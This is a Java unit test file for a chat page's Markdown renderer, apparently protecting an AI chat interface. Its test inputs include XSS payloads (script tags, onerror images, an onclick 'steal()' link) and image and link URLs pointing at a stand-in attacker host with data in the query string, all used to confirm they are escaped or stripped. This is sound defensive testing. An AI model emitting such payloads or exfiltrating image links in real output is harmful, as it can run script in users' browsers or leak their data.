package io.gatehouse.governance.guardrail;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Arrays;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

/** The chat page's rendering: Markdown formatting survives, nothing active or auto-loading does. */
class MarkdownRendererTest {

    private static final AllowedLinks DOCS = new AllowedLinks(Set.of("docs.example.com"));

    private static final Pattern REL = Pattern.compile("rel=\"([^\"]*)\"");

    private static String render(String markdown) {
        return relSorted(MarkdownRenderer.render(markdown, DOCS));
    }

    /** The sanitizer writes the rel tokens in no fixed order; tests compare them sorted. */
    static String relSorted(String html) {
        return REL.matcher(html).replaceAll(m -> "rel=\"" + Arrays.stream(m.group(1).split(" ")).sorted().collect(Collectors.joining(" ")) + "\"");
    }

    @Test
    void formattingListsTablesAndCodeRender() {
        String html = render("**Revenue** grew *12%*.\n\n- one\n- two\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n```sql\nselect 1 < 2\n```");

        assertThat(html).contains("<strong>Revenue</strong>", "<em>12%</em>", "<ul><li>one</li><li>two</li></ul>", "<table>",
                "<th align=\"left\">a</th>", "<td align=\"right\">2</td>", "<pre><code class=\"language-sql\">select 1 &lt; 2\n</code></pre>");
    }

    @Test
    void rawHtmlFromTheModelIsShownAsTextNeverAsMarkup() {
        String html = render("Hi <script>alert(1)</script> <img src=x onerror=alert(1)> <iframe src=\"https://evil.example\"></iframe>"
                + " <a href=\"https://docs.example.com\" onclick=\"steal()\">x</a>");

        assertThat(html).doesNotContain("<script", "<img", "<iframe", "<a ", "onclick=\"").contains("&lt;script&gt;");
    }

    @Test
    void javascriptAndDataLinksBecomeText() {
        String html = render("[click](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) [mail](mailto:x@evil.example)");

        assertThat(html).isEqualTo("<p>click data mail</p>");
    }

    @Test
    void imagesAreNeverRenderedNotEvenInline() {
        String html = render("Chart: ![sales](https://evil.example/c.png?d=ACME) ![local](/static/favicon.svg) "
                + "![data](data:image/png;base64,iVBORw0KGgo=)\n\n![ref][r]\n\n[r]: https://evil.example/r.png");

        assertThat(html).doesNotContain("<img", "evil.example", "favicon", "base64");
    }

    @Test
    void aLinkToASiteNotAllowedIsPlainTextAndAnAllowedOneIsALinkWithRel() {
        String html = render("See [the report](https://evil.example/?q=ACME) and [the docs](https://docs.example.com/guide?x=1&y=2) "
                + "and [api](https://api.docs.example.com/v1) and <https://evil.example/auto> and https://evil.example/bare");

        assertThat(html).contains("See the report and ")
                .contains("<a href=\"https://docs.example.com/guide?x&#61;1&amp;y&#61;2\" rel=\"nofollow noopener noreferrer\">the docs</a>")
                .contains("<a href=\"https://api.docs.example.com/v1\" rel=\"nofollow noopener noreferrer\">api</a>")
                .doesNotContain("href=\"https://evil.example");
    }

    @Test
    void withNoAllowedDomainsThereAreNoLinksAtAll() {
        assertThat(MarkdownRenderer.render("[docs](https://docs.example.com/)", AllowedLinks.none())).isEqualTo("<p>docs</p>");
    }

    @Test
    void softLineBreaksStayAndBlocksAreNotSeparatedByBlankLines() {
        assertThat(render("Line one\nline two\n\nNext paragraph")).isEqualTo("<p>Line one\nline two</p><p>Next paragraph</p>");
    }
}
